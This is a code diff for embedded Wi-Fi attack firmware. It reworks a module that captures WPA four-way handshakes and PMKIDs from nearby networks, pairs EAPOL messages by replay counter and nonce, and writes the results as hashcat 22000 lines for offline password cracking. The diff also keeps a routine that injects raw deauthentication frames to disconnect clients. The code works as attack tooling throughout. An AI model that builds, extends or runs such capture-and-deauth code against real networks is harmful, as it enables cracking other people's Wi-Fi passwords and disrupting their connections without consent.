@@ -6,28 +6,233 @@
  */
 
 #include "handshake_capture.h"
-#include <esp_wifi.h>
+#include "wifi_scanner.h"
+#include "hal/hal.h"
+#include "wifi/dot11.h"
+#include "gps/utc_clock.h"
 #include <SD.h>
 
+// =============================================================================
+// SESSION TABLE
+// =============================================================================
+// One handshake_t per (AP, STA) pair, drawn from a fixed pool through a free
+// stack and found through an open-addressing index (linear probing, at most
+// half full, backward-shift deletion - same scheme as the scanner's BSSID
+// index).
+
+static inline uint32_t session_hash(const uint8_t* bssid, const uint8_t* station) {
+    // NIC-specific bytes of both ends carry the entropy
+    uint32_t h = ((uint32_t)bssid[3] << 16) | ((uint32_t)bssid[4] << 8) | bssid[5];
+    h ^= (((uint32_t)station[3] << 16) | ((uint32_t)station[4] << 8) | station[5]) * 0x85EBCA6B;
+    h *= 0x9E3779B1;
+    return h ^ (h >> 16);
+}
+
+static bool session_matches(const handshake_t* hs, const uint8_t* bssid, const uint8_t* station) {
+    return memcmp(hs->bssid, bssid, 6) == 0 && memcmp(hs->station, station, 6) == 0;
+}
+
+static void session_reset_all(capture_state_t* state) {
+    memset(state->sessionIndex, 0xFF, sizeof(uint16_t) * (state->sessionMask + 1));
+    for (uint16_t i = 0; i < state->handshakeCapacity; i++) {
+        state->handshakes[i].inUse = false;
+        state->freeSlots[i] = state->handshakeCapacity - 1 - i;
+    }
+    state->freeCount = state->handshakeCapacity;
+    state->handshakeCount = 0;
+}
+
+static void session_unindex(capture_state_t* state, uint16_t row) {
+    uint32_t mask = state->sessionMask;
+    const handshake_t* hs = &state->handshakes[row];
+    uint32_t hole = session_hash(hs->bssid, hs->station) & mask;
+    while (state->sessionIndex[hole] != row) {
+        if (state->sessionIndex[hole] == CAPTURE_INDEX_EMPTY) return;
+        hole = (hole + 1) & mask;
+    }
+
+    uint32_t next = (hole + 1) & mask;
+    while (state->sessionIndex[next] != CAPTURE_INDEX_EMPTY) {
+        const handshake_t* other = &state->handshakes[state->sessionIndex[next]];
+        uint32_t home = session_hash(other->bssid, other->station) & mask;
+        if (((next - home) & mask) >= ((next - hole) & mask)) {
+            state->sessionIndex[hole] = state->sessionIndex[next];
+            hole = next;
+        }
+        next = (next + 1) & mask;
+    }
+    state->sessionIndex[hole] = CAPTURE_INDEX_EMPTY;
+}
+
+static void session_release(capture_state_t* state, handshake_t* hs) {
+    uint16_t row = hs - state->handshakes;
+    session_unindex(state, row);
+    hs->inUse = false;
+    state->freeSlots[state->freeCount++] = row;
+    state->handshakeCount--;
+}
+
+// Return incomplete sessions that went quiet to the pool
+static void session_expire(capture_state_t* state, uint32_t now) {
+    for (uint16_t i = 0; i < state->handshakeCapacity; i++) {
+        handshake_t* hs = &state->handshakes[i];
+        if (hs->inUse && !hs->complete && now - hs->lastSeen > HANDSHAKE_TIMEOUT_MS) {
+            session_release(state, hs);
+            state->expiredCount++;
+        }
+    }
+    state->lastExpiry = now;
+}
+
+handshake_t* capture_find_session(capture_state_t* state, const uint8_t* bssid, const uint8_t* station) {
+    uint32_t slot = session_hash(bssid, station) & state->sessionMask;
+    uint16_t row;
+    while ((row = state->sessionIndex[slot]) != CAPTURE_INDEX_EMPTY) {
+        if (session_matches(&state->handshakes[row], bssid, station)) {
+            return &state->handshakes[row];
+        }
+        slot = (slot + 1) & state->sessionMask;
+    }
+    return nullptr;
+}
+
+static handshake_t* session_open(capture_state_t* state, const uint8_t* bssid, const uint8_t* station) {
+    if (state->freeCount == 0) {
+        // Pool exhausted - reclaim stale sessions early before giving up
+        session_expire(state, millis());
+        if (state->freeCount == 0) return nullptr;
+    }
+
+    uint16_t row = state->freeSlots[--state->freeCount];
+    handshake_t* hs = &state->handshakes[row];
+    memset(hs, 0, sizeof(handshake_t));
+    memcpy(hs->bssid, bssid, 6);
+    memcpy(hs->station, station, 6);
+    hs->inUse = true;
+    hs->captureTime = utc_now_us();
+    hs->lastSeen = millis();
+
+    uint32_t slot = session_hash(bssid, station) & state->sessionMask;
+    while (state->sessionIndex[slot] != CAPTURE_INDEX_EMPTY) {
+        slot = (slot + 1) & state->sessionMask;
+    }
+    state->sessionIndex[slot] = row;
+    state->handshakeCount++;
+    return hs;
+}
+
+// =============================================================================
+// ESSID JOIN
+// =============================================================================
+// A 22000 line without its ESSID cannot be cracked as is, so records wait in
+// RAM until the network table knows the name (capture_essid_learned()).
+// Whatever is still unnamed when capture stops goes out with an empty ESSID.
+
+static bool essid_resolve(capture_state_t* state, const uint8_t* bssid, char* ssid) {
+    if (ssid[0]) return true;
+    return state->essidSource && state->essidSource(bssid, ssid) && ssid[0];
+}
+
+static void emit_handshake(capture_state_t* state, handshake_t* hs, bool force) {
+    if (!essid_resolve(state, hs->bssid, hs->ssid) && !force) {
+        if (!hs->essidPending) state->essidPending++;
+        hs->essidPending = true;
+        return;
+    }
+    if (hs->essidPending) state->essidPending--;
+    hs->essidPending = false;
+    hc22000_write_eapol(&state->sink, hs->mic, hs->bssid, hs->station, hs->ssid,
+                        hs->anonce, hs->eapol, hs->eapolLen, hs->messagePair);
+}
+
+static void emit_pmkid(capture_state_t* state, pmkid_t* pmkid, bool force) {
+    if (!essid_resolve(state, pmkid->bssid, pmkid->ssid) && !force) {
+        if (!pmkid->essidPending) state->essidPending++;
+        pmkid->essidPending = true;
+        return;
+    }
+    if (pmkid->essidPending) state->essidPending--;
+    pmkid->essidPending = false;
+    hc22000_write_pmkid(&state->sink, pmkid->pmkid, pmkid->bssid, pmkid->station, pmkid->ssid);
+}
+
+static void emit_pending(capture_state_t* state) {
+    for (uint16_t i = 0; i < state->handshakeCapacity && state->essidPending; i++) {
+        if (state->handshakes[i].inUse && state->handshakes[i].essidPending) {
+            emit_handshake(state, &state->handshakes[i], true);
+        }
+    }
+    for (uint16_t i = 0; i < state->pmkidCount && state->essidPending; i++) {
+        if (state->pmkids[i].essidPending) emit_pmkid(state, &state->pmkids[i], true);
+    }
+}
+
+void capture_essid_learned(capture_state_t* state, const uint8_t* bssid, const char* ssid) {
+    if (!state->essidPending || !ssid[0]) return;
+
+    for (uint16_t i = 0; i < state->handshakeCapacity; i++) {
+        handshake_t* hs = &state->handshakes[i];
+        if (hs->inUse && hs->essidPending && memcmp(hs->bssid, bssid, 6) == 0) {
+            strncpy(hs->ssid, ssid, sizeof(hs->ssid) - 1);
+            hs->ssid[sizeof(hs->ssid) - 1] = '\0';
+            emit_handshake(state, hs, false);
+        }
+    }
+    for (uint16_t i = 0; i < state->pmkidCount; i++) {
+        pmkid_t* pmkid = &state->pmkids[i];
+        if (pmkid->essidPending && memcmp(pmkid->bssid, bssid, 6) == 0) {
+            strncpy(pmkid->ssid, ssid, sizeof(pmkid->ssid) - 1);
+            pmkid->ssid[sizeof(pmkid->ssid) - 1] = '\0';
+            emit_pmkid(state, pmkid, false);
+        }
+    }
+}
+
 // =============================================================================
 // INITIALIZATION
 // =============================================================================
 bool capture_init(capture_state_t* state, uint16_t max_handshakes, uint16_t max_pmkids) {
+    // Slot numbers share uint16_t with the empty-slot marker
+    if (max_handshakes >= CAPTURE_INDEX_EMPTY) max_handshakes = CAPTURE_INDEX_EMPTY - 1;
+
+    uint32_t slots = 2;
+    while (slots < (uint32_t)max_handshakes * 2) slots <<= 1;
+
     state->handshakes = (handshake_t*)ps_malloc(sizeof(handshake_t) * max_handshakes);
     state->pmkids = (pmkid_t*)ps_malloc(sizeof(pmkid_t) * max_pmkids);
+    state->sessionIndex = (uint16_t*)ps_malloc(sizeof(uint16_t) * slots);
+    state->freeSlots = (uint16_t*)ps_malloc(sizeof(uint16_t) * max_handshakes);
 
-    if (!state->handshakes || !state->pmkids) {
+    if (max_pmkids >= CAPTURE_INDEX_EMPTY) max_pmkids = CAPTURE_INDEX_EMPTY - 1;
+    uint32_t pmkidSlots = 2;
+    while (pmkidSlots < (uint32_t)max_pmkids * 2) pmkidSlots <<= 1;
+    state->pmkidIndex = (uint16_t*)ps_malloc(sizeof(uint16_t) * pmkidSlots);
+
+    if (!state->handshakes || !state->pmkids || !state->sessionIndex || !state->freeSlots ||
+        !state->pmkidIndex) {
         Serial.println("[CAPTURE] Failed to allocate buffers");
         return false;
     }
 
-    state->handshakeCount = 0;
     state->handshakeCapacity = max_handshakes;
+    state->sessionMask = slots - 1;
+    state->lastExpiry = 0;
+    state->expiredCount = 0;
+    state->oversizedCount = 0;
+    session_reset_all(state);
     state->pmkidCount = 0;
     state->pmkidCapacity = max_pmkids;
+    state->pmkidMask = pmkidSlots - 1;
+    state->pmkidDuplicates = 0;
+    memset(state->pmkidIndex, 0xFF, sizeof(uint16_t) * pmkidSlots);
+    state->essidSource = nullptr;
+    state->essidPending = 0;
     state->hasTarget = false;
     state->isCapturing = false;
     state->captureStartTime = 0;
+    capfilter_clear(&state->filter);
+
+    if (!hc22000_init(&state->sink, CAPTURE_SINK_RECORDS)) return false;
 
     Serial.println("[CAPTURE] Interdimensional Cable initialized");
     return true;
@@ -36,11 +241,30 @@ bool capture_init(capture_state_t* state, uint16_t max_handshakes, uint16_t max_
 // =============================================================================
 // START/STOP CAPTURE
 // =============================================================================
+// The RX callback may be evaluating the filter, so an installed one is taken
+// out while it is half-built and put back after. bssid nullptr = everything.
+static void filter_rebuild(capture_state_t* state, const uint8_t* bssid) {
+    bool installed = scanner_get_filter() == &state->filter;
+    if (installed) scanner_set_filter(nullptr);
+
+    if (bssid) {
+        // Only the target's management and data frames are worth queueing
+        capfilter_compile(&state->filter, "mgmt data");
+        capfilter_add_bssid(&state->filter, bssid);
+    } else {
+        capfilter_clear(&state->filter);
+    }
+
+    if (installed) scanner_set_filter(&state->filter);
+}
+
 void capture_start_target(capture_state_t* state, const uint8_t* bssid, const char* ssid) {
     memcpy(state->targetBSSID, bssid, 6);
     state->hasTarget = true;
+    filter_rebuild(state, bssid);
     state->isCapturing = true;
     state->captureStartTime = millis();
+    if (!state->sink.isOpen) hc22000_open(&state->sink, CAPTURE_SINK_FILE);
 
     Serial.printf("[CAPTURE] Targeting: %s [%02X:%02X:%02X:%02X:%02X:%02X]\n",
                   ssid,
@@ -49,211 +273,244 @@ void capture_start_target(capture_state_t* state, const uint8_t* bssid, const ch
 
 void capture_start_all(capture_state_t* state) {
     state->hasTarget = false;
+    filter_rebuild(state, nullptr);
     state->isCapturing = true;
     state->captureStartTime = millis();
+    if (!state->sink.isOpen) hc22000_open(&state->sink, CAPTURE_SINK_FILE);
 
     Serial.println("[CAPTURE] Capturing all interdimensional signals...");
 }
 
 void capture_stop(capture_state_t* state) {
     state->isCapturing = false;
+    emit_pending(state);
+    hc22000_close(&state->sink);
 
     Serial.printf("[CAPTURE] Stopped. Handshakes: %d, PMKIDs: %d\n",
                   state->handshakeCount, state->pmkidCount);
 }
 
 // =============================================================================
-// EAPOL PROCESSING
+// PMKID EXTRACTION
 // =============================================================================
-void capture_process_eapol(capture_state_t* state, const uint8_t* packet, uint16_t len) {
-    if (!state->isCapturing) return;
-    if (len < sizeof(eapol_key_t) + 14) return;  // Min Ethernet + EAPOL
-
-    // Parse 802.11 header to get addresses
-    const uint8_t* bssid = packet + 16;  // Address 3 in data frame
-    const uint8_t* station = packet + 10;  // Address 2 (source)
-
-    // Check if targeting specific BSSID
-    if (state->hasTarget && memcmp(bssid, state->targetBSSID, 6) != 0) {
-        return;
-    }
-
-    // Find or create handshake entry
-    handshake_t* hs = nullptr;
-    for (uint16_t i = 0; i < state->handshakeCount; i++) {
-        if (memcmp(state->handshakes[i].bssid, bssid, 6) == 0 &&
-            memcmp(state->handshakes[i].station, station, 6) == 0) {
-            hs = &state->handshakes[i];
-            break;
+// One PMKID per (AP, STA), found through an index hashed like the sessions.
+// An AP repeats the same PMKID in every M1 to a station, so the index keeps
+// retries and reconnects from filling the table.
+
+static void pmkid_add(capture_state_t* state, const uint8_t* bssid, const uint8_t* station,
+                      const uint8_t* data) {
+    uint32_t slot = session_hash(bssid, station) & state->pmkidMask;
+    uint16_t row;
+    while ((row = state->pmkidIndex[slot]) != CAPTURE_INDEX_EMPTY) {
+        pmkid_t* known = &state->pmkids[row];
+        if (memcmp(known->bssid, bssid, 6) == 0 && memcmp(known->station, station, 6) == 0) {
+            if (memcmp(known->pmkid, data, 16) == 0) {
+                state->pmkidDuplicates++;
+                return;
+            }
+            break;  // PMK changed (new passphrase) - keep the newer one
         }
+        slot = (slot + 1) & state->pmkidMask;
     }
 
-    if (!hs && state->handshakeCount < state->handshakeCapacity) {
-        hs = &state->handshakes[state->handshakeCount];
-        memcpy(hs->bssid, bssid, 6);
-        memcpy(hs->station, station, 6);
-        hs->hasFrame1 = false;
-        hs->hasFrame2 = false;
-        hs->hasFrame3 = false;
-        hs->hasFrame4 = false;
-        hs->complete = false;
-        hs->captureTime = millis();
-        state->handshakeCount++;
+    pmkid_t* pmkid;
+    if (row != CAPTURE_INDEX_EMPTY) {
+        pmkid = &state->pmkids[row];
+    } else {
+        if (state->pmkidCount >= state->pmkidCapacity) return;
+        state->pmkidIndex[slot] = state->pmkidCount;
+        pmkid = &state->pmkids[state->pmkidCount++];
+        memcpy(pmkid->bssid, bssid, 6);
+        memcpy(pmkid->station, station, 6);
+        pmkid->ssid[0] = '\0';
+        pmkid->essidPending = false;
     }
 
-    if (!hs) return;
+    memcpy(pmkid->pmkid, data, 16);
+    pmkid->captureTime = utc_now_us();
 
-    // Parse EAPOL key frame
-    // Skip 802.11 header + LLC/SNAP (8 bytes) to get to EAPOL
-    const uint8_t* eapol = packet + 32;  // Approximate offset
-    const eapol_key_t* key = (const eapol_key_t*)eapol;
-
-    uint16_t keyInfo = ntohs(key->key_info);
-    bool isKeyAck = (keyInfo & 0x0080) != 0;
-    bool isMic = (keyInfo & 0x0100) != 0;
-    bool isSecure = (keyInfo & 0x0200) != 0;
-    bool isInstall = (keyInfo & 0x0040) != 0;
-
-    // Determine which frame (1-4)
-    if (isKeyAck && !isMic && !isInstall) {
-        // Frame 1: ANonce
-        memcpy(hs->anonce, key->key_nonce, 32);
-        hs->hasFrame1 = true;
-        Serial.println("[CAPTURE] EAPOL Frame 1 (ANonce)");
-    }
-    else if (!isKeyAck && isMic && !isInstall) {
-        // Frame 2: SNonce + MIC
-        memcpy(hs->snonce, key->key_nonce, 32);
-        memcpy(hs->mic, key->key_mic, 16);
-        hs->keyver = keyInfo & 0x0007;
-
-        // Save EAPOL frame for hash
-        uint16_t eapolLen = ntohs(key->length) + 4;
-        if (eapolLen <= sizeof(hs->eapol)) {
-            memcpy(hs->eapol, eapol, eapolLen);
-            hs->eapolLen = eapolLen;
-        }
+    Serial.printf("\n[CAPTURE] PMKID EXTRACTED for %02X:%02X:%02X:%02X:%02X:%02X!\n",
+                  bssid[0], bssid[1], bssid[2], bssid[3], bssid[4], bssid[5]);
+    emit_pmkid(state, pmkid, false);
+}
 
-        hs->hasFrame2 = true;
-        Serial.println("[CAPTURE] EAPOL Frame 2 (SNonce + MIC)");
-    }
-    else if (isKeyAck && isMic && isInstall) {
-        // Frame 3
-        hs->hasFrame3 = true;
-        Serial.println("[CAPTURE] EAPOL Frame 3");
-    }
-    else if (!isKeyAck && isMic && isSecure) {
-        // Frame 4
-        hs->hasFrame4 = true;
-        Serial.println("[CAPTURE] EAPOL Frame 4");
+void capture_set_essid_source(capture_state_t* state, capture_essid_fn fn) {
+    state->essidSource = fn;
+}
+
+void capture_process_beacon(capture_state_t* state, const uint8_t* packet, uint16_t len) {
+    if (!state->isCapturing) return;
+
+    dot11_view_t view;
+    const uint8_t* ies;
+    uint16_t iesLen;
+    if (!dot11_parse(packet, len, &view)) return;
+    if (view.subtype != DOT11_MGMT_ASSOC_REQ && view.subtype != DOT11_MGMT_REASSOC_REQ) return;
+    if (!dot11_mgmt_ies(&view, &ies, &iesLen)) return;
+
+    const uint8_t* bssid = view.bssid;
+
+    // Check if targeting
+    if (state->hasTarget && memcmp(bssid, state->targetBSSID, 6) != 0) {
+        return;
     }
 
-    // Check if complete (need at least frames 1+2 or 2+3)
-    if ((hs->hasFrame1 && hs->hasFrame2) || (hs->hasFrame2 && hs->hasFrame3)) {
-        if (!hs->complete) {
-            hs->complete = true;
-            Serial.printf("\n[CAPTURE] HANDSHAKE CAPTURED for %02X:%02X:%02X:%02X:%02X:%02X!\n",
-                          hs->bssid[0], hs->bssid[1], hs->bssid[2],
-                          hs->bssid[3], hs->bssid[4], hs->bssid[5]);
-        }
+    // The station names the PMKSAs it has cached for this AP
+    dot11_ie_t ie;
+    dot11_rsn_t rsn;
+    if (!dot11_ie_find(ies, iesLen, DOT11_IE_RSN, &ie)) return;
+    if (!dot11_parse_rsn(ie.data, ie.len, &rsn)) return;
+
+    for (uint16_t i = 0; i < rsn.pmkidCount; i++) {
+        pmkid_add(state, bssid, view.sa, rsn.pmkids + i * 16);
     }
 }
 
 // =============================================================================
-// PMKID EXTRACTION
+// EAPOL PROCESSING
 // =============================================================================
-void capture_process_beacon(capture_state_t* state, const uint8_t* packet, uint16_t len) {
+// Pick the best message pair available; authorized (M2+M3) beats challenge
+static bool session_pair(handshake_t* hs) {
+    bool m12 = hs->hasFrame1 && hs->hasFrame2;
+    bool m23 = hs->hasFrame2 && hs->hasFrame3;
+
+    if (m23 && hs->replayM3 == hs->replayM2 + 1) hs->messagePair = MSGPAIR_M2M3;
+    else if (m12 && hs->replayM2 == hs->replayM1) hs->messagePair = MSGPAIR_M1M2;
+    else if (m23) hs->messagePair = MSGPAIR_M2M3 | MSGPAIR_UNCHECKED;
+    else if (m12) hs->messagePair = MSGPAIR_M1M2 | MSGPAIR_UNCHECKED;
+    else return false;
+    return true;
+}
+
+static uint64_t replay_counter(const uint8_t* rc) {
+    uint64_t v = 0;
+    for (int i = 0; i < 8; i++) v = (v << 8) | rc[i];
+    return v;
+}
+
+void capture_process_eapol(capture_state_t* state, const uint8_t* packet, uint16_t len) {
     if (!state->isCapturing) return;
 
-    // Parse 802.11 beacon frame for RSN IE with PMKID
-    const uint8_t* bssid = packet + 16;  // BSSID in beacon
+    dot11_view_t view;
+    dot11_eapol_key_t key;
+    if (!dot11_parse(packet, len, &view) || !dot11_eapol_key(&view, &key)) return;
+    if (!view.bssid || key.message == 0) return;  // WDS or group key handshake
 
-    // Check if targeting
+    // The station is whichever end is not the AP
+    const uint8_t* bssid = view.bssid;
+    const uint8_t* station = memcmp(view.sa, bssid, 6) == 0 ? view.da : view.sa;
+
+    // Check if targeting specific BSSID
     if (state->hasTarget && memcmp(bssid, state->targetBSSID, 6) != 0) {
         return;
     }
 
-    // Search for RSN IE (tag 48)
-    const uint8_t* ie = packet + 36;  // After fixed beacon params
-    const uint8_t* end = packet + len;
-
-    while (ie < end - 2) {
-        uint8_t tagNum = ie[0];
-        uint8_t tagLen = ie[1];
-
-        if (tagNum == 48 && tagLen >= 22) {  // RSN IE
-            // Look for PMKID in RSN IE
-            const uint8_t* rsn = ie + 2;
-            uint16_t rsnLen = tagLen;
-
-            // Parse RSN IE to find PMKID list
-            // Structure: Version(2) + Group(4) + Pairwise Count(2) + Pairwise Suites...
-            // + AKM Count(2) + AKM Suites... + RSN Caps(2) + PMKID Count(2) + PMKIDs
-
-            if (rsnLen > 20) {
-                // Check for PMKID at end of RSN IE
-                const uint8_t* pmkidList = rsn + rsnLen - 18;  // Approximate
-
-                // PMKID is 16 bytes
-                if (state->pmkidCount < state->pmkidCapacity) {
-                    pmkid_t* pmkid = &state->pmkids[state->pmkidCount];
-                    memcpy(pmkid->bssid, bssid, 6);
-                    memcpy(pmkid->pmkid, pmkidList, 16);
-                    pmkid->captureTime = millis();
-                    state->pmkidCount++;
-
-                    Serial.printf("\n[CAPTURE] PMKID EXTRACTED for %02X:%02X:%02X:%02X:%02X:%02X!\n",
-                                  bssid[0], bssid[1], bssid[2], bssid[3], bssid[4], bssid[5]);
-                }
+    uint32_t now = millis();
+    if (now - state->lastExpiry > 1000) session_expire(state, now);
+
+    // Find or open the session
+    handshake_t* hs = capture_find_session(state, bssid, station);
+    if (hs && !hs->complete && now - hs->lastSeen > HANDSHAKE_TIMEOUT_MS) {
+        session_release(state, hs);  // Stale, start over
+        state->expiredCount++;
+        hs = nullptr;
+    }
+    if (!hs) hs = session_open(state, bssid, station);
+    if (!hs) return;
+
+    uint64_t replay = replay_counter(key.replayCounter);
+    const uint8_t* pmkidData;
+    hs->lastSeen = now;
+
+    switch (key.message) {
+        case DOT11_EAPOL_M1:
+            if (hs->complete) break;  // Keep the pair we have
+
+            // A fresh ANonce is a new attempt; the old M2/M3 no longer pair
+            if (hs->hasFrame1 && memcmp(hs->anonce, key.nonce, 32) != 0) {
+                hs->hasFrame2 = false;
+                hs->hasFrame3 = false;
+                hs->hasFrame4 = false;
             }
-        }
+            memcpy(hs->anonce, key.nonce, 32);
+            hs->replayM1 = replay;
+            hs->hasFrame1 = true;
+            Serial.println("[CAPTURE] EAPOL Frame 1 (ANonce)");
+
+            if (PMKID_CAPTURE_ENABLED && dot11_eapol_pmkid(&key, &pmkidData)) {
+                pmkid_add(state, bssid, station, pmkidData);
+            }
+            break;
+
+        case DOT11_EAPOL_M2:
+            if (hs->complete) break;
+
+            // The MIC is only checkable against this frame's own EAPOL
+            if (key.eapolLen > sizeof(hs->eapol)) {
+                state->oversizedCount++;
+                break;
+            }
+
+            // SNonce + MIC
+            memcpy(hs->snonce, key.nonce, 32);
+            memcpy(hs->mic, key.mic, 16);
+            hs->keyver = key.keyVersion;
+            hs->replayM2 = replay;
+
+            // Save EAPOL frame for hash, MIC zeroed as it was when computed
+            memcpy(hs->eapol, key.eapol, key.eapolLen);
+            memset(hs->eapol + key.micOffset, 0, 16);
+            hs->eapolLen = key.eapolLen;
+
+            hs->hasFrame2 = true;
+            Serial.println("[CAPTURE] EAPOL Frame 2 (SNonce + MIC)");
+            break;
 
-        ie += 2 + tagLen;
+        case DOT11_EAPOL_M3:
+            // M3 repeats the ANonce; a different one means M1 was from another attempt
+            if (hs->hasFrame1 && memcmp(hs->anonce, key.nonce, 32) != 0) {
+                if (hs->complete) break;
+                hs->hasFrame1 = false;
+            }
+            memcpy(hs->anonce, key.nonce, 32);
+            hs->replayM3 = replay;
+            hs->hasFrame3 = true;
+            Serial.println("[CAPTURE] EAPOL Frame 3");
+            break;
+
+        case DOT11_EAPOL_M4:
+            hs->hasFrame4 = true;
+            Serial.println("[CAPTURE] EAPOL Frame 4");
+            break;
+    }
+
+    // Complete once any pair lines up; M3 may still upgrade M1+M2 to authorized
+    uint8_t pair = hs->messagePair;
+    if (!hs->hasFrame2 || !session_pair(hs)) return;
+
+    if (!hs->complete) {
+        hs->complete = true;
+        Serial.printf("\n[CAPTURE] HANDSHAKE CAPTURED for %02X:%02X:%02X:%02X:%02X:%02X! (pair %02x)\n",
+                      hs->bssid[0], hs->bssid[1], hs->bssid[2],
+                      hs->bssid[3], hs->bssid[4], hs->bssid[5], hs->messagePair);
+    } else if (hs->messagePair == pair) {
+        return;
     }
+    emit_handshake(state, hs, false);
 }
 
 // =============================================================================
 // FILE EXPORT
 // =============================================================================
 bool capture_save_handshake(handshake_t* handshake, const char* filename) {
-    File file = SD.open(filename, FILE_WRITE);
+    File file = SD.open(filename, FILE_APPEND);
     if (!file) return false;
 
-    // Hashcat 22000 format:
-    // WPA*01*PMKID*MAC_AP*MAC_STA*ESSID***
-    // WPA*02*MIC*MAC_AP*MAC_STA*ESSID*NONCE_AP*EAPOL*MESSAGEPAIR
-
-    char line[512];
-    snprintf(line, sizeof(line),
-             "WPA*02*%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x*"
-             "%02x%02x%02x%02x%02x%02x*%02x%02x%02x%02x%02x%02x*%s*",
-             handshake->mic[0], handshake->mic[1], handshake->mic[2], handshake->mic[3],
-             handshake->mic[4], handshake->mic[5], handshake->mic[6], handshake->mic[7],
-             handshake->mic[8], handshake->mic[9], handshake->mic[10], handshake->mic[11],
-             handshake->mic[12], handshake->mic[13], handshake->mic[14], handshake->mic[15],
-             handshake->bssid[0], handshake->bssid[1], handshake->bssid[2],
-             handshake->bssid[3], handshake->bssid[4], handshake->bssid[5],
-             handshake->station[0], handshake->station[1], handshake->station[2],
-             handshake->station[3], handshake->station[4], handshake->station[5],
-             handshake->ssid);
-
-    // Add ANonce
-    for (int i = 0; i < 32; i++) {
-        char hex[3];
-        snprintf(hex, sizeof(hex), "%02x", handshake->anonce[i]);
-        strcat(line, hex);
-    }
-    strcat(line, "*");
-
-    // Add EAPOL (hex encoded)
-    for (int i = 0; i < handshake->eapolLen; i++) {
-        char hex[3];
-        snprintf(hex, sizeof(hex), "%02x", handshake->eapol[i]);
-        strcat(line, hex);
-    }
-    strcat(line, "*02\n");  // Message pair
-
-    file.print(line);
+    char line[HC22000_MAX_LINE];
+    uint16_t len = hc22000_format_eapol(line, handshake->mic, handshake->bssid, handshake->station,
+                                        handshake->ssid, handshake->anonce, handshake->eapol,
+                                        handshake->eapolLen, handshake->messagePair);
+    file.write((const uint8_t*)line, len);
     file.close();
 
     Serial.printf("[CAPTURE] Saved handshake to %s\n", filename);
@@ -264,22 +521,9 @@ bool capture_save_pmkid(pmkid_t* pmkid, const char* filename) {
     File file = SD.open(filename, FILE_APPEND);
     if (!file) return false;
 
-    // Hashcat 22000 format for PMKID:
-    // WPA*01*PMKID*MAC_AP*MAC_CLIENT*ESSID***
-    char line[256];
-    snprintf(line, sizeof(line),
-             "WPA*01*%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x%02x*"
-             "%02x%02x%02x%02x%02x%02x*%02x%02x%02x%02x%02x%02x*%s***\n",
-             pmkid->pmkid[0], pmkid->pmkid[1], pmkid->pmkid[2], pmkid->pmkid[3],
-             pmkid->pmkid[4], pmkid->pmkid[5], pmkid->pmkid[6], pmkid->pmkid[7],
-             pmkid->pmkid[8], pmkid->pmkid[9], pmkid->pmkid[10], pmkid->pmkid[11],
-             pmkid->pmkid[12], pmkid->pmkid[13], pmkid->pmkid[14], pmkid->pmkid[15],
-             pmkid->bssid[0], pmkid->bssid[1], pmkid->bssid[2],
-             pmkid->bssid[3], pmkid->bssid[4], pmkid->bssid[5],
-             0x00, 0x00, 0x00, 0x00, 0x00, 0x00,  // Client MAC (unknown for PMKID)
-             pmkid->ssid);
-
-    file.print(line);
+    char line[HC22000_MAX_LINE];
+    uint16_t len = hc22000_format_pmkid(line, pmkid->pmkid, pmkid->bssid, pmkid->station, pmkid->ssid);
+    file.write((const uint8_t*)line, len);
     file.close();
 
     Serial.printf("[CAPTURE] Saved PMKID to %s\n", filename);
@@ -287,25 +531,29 @@ bool capture_save_pmkid(pmkid_t* pmkid, const char* filename) {
 }
 
 bool capture_save_all(capture_state_t* state) {
-    char filename[64];
-
-    // Save all handshakes
-    for (uint16_t i = 0; i < state->handshakeCount; i++) {
-        if (state->handshakes[i].complete) {
-            snprintf(filename, sizeof(filename), "%s/hs_%02x%02x%02x%02x.22000",
-                     DIR_HANDSHAKES,
-                     state->handshakes[i].bssid[2], state->handshakes[i].bssid[3],
-                     state->handshakes[i].bssid[4], state->handshakes[i].bssid[5]);
-            capture_save_handshake(&state->handshakes[i], filename);
-        }
+    bool opened = false;
+    if (!state->sink.isOpen) {
+        if (!hc22000_open(&state->sink, CAPTURE_SINK_FILE)) return false;
+        opened = true;
     }
 
-    // Save all PMKIDs
-    snprintf(filename, sizeof(filename), "%s/pmkids.22000", DIR_PMKID);
+    // While capturing, an unnamed record keeps waiting for its ESSID - once
+    // written without it, the sink's dedupe would drop the named line later
+    bool force = !state->isCapturing;
+    uint32_t before = state->sink.records;
+    for (uint16_t i = 0; i < state->handshakeCapacity; i++) {
+        handshake_t* hs = &state->handshakes[i];
+        if (hs->inUse && hs->complete) emit_handshake(state, hs, force);
+    }
     for (uint16_t i = 0; i < state->pmkidCount; i++) {
-        capture_save_pmkid(&state->pmkids[i], filename);
+        emit_pmkid(state, &state->pmkids[i], force);
     }
 
+    if (opened) hc22000_close(&state->sink);
+    else hc22000_flush(&state->sink);
+
+    Serial.printf("[CAPTURE] Saved %u new records to %s\n",
+                  (unsigned)(state->sink.records - before), CAPTURE_SINK_FILE);
     return true;
 }
 
@@ -325,8 +573,10 @@ uint16_t capture_pmkid_count(capture_state_t* state) {
 }
 
 void capture_clear(capture_state_t* state) {
-    state->handshakeCount = 0;
+    session_reset_all(state);
     state->pmkidCount = 0;
+    state->essidPending = 0;
+    memset(state->pmkidIndex, 0xFF, sizeof(uint16_t) * (state->pmkidMask + 1));
     Serial.println("[CAPTURE] Capture buffers cleared");
 }
 
@@ -355,7 +605,7 @@ void deauth_send(const uint8_t* bssid, const uint8_t* station, uint8_t reason, u
 
     // Send multiple frames
     for (uint8_t i = 0; i < count; i++) {
-        esp_wifi_80211_tx(WIFI_IF_STA, deauthFrame, sizeof(deauthFrame), false);
+        hal_wifi_tx_raw(deauthFrame, sizeof(deauthFrame));
         delayMicroseconds(500);
     }
 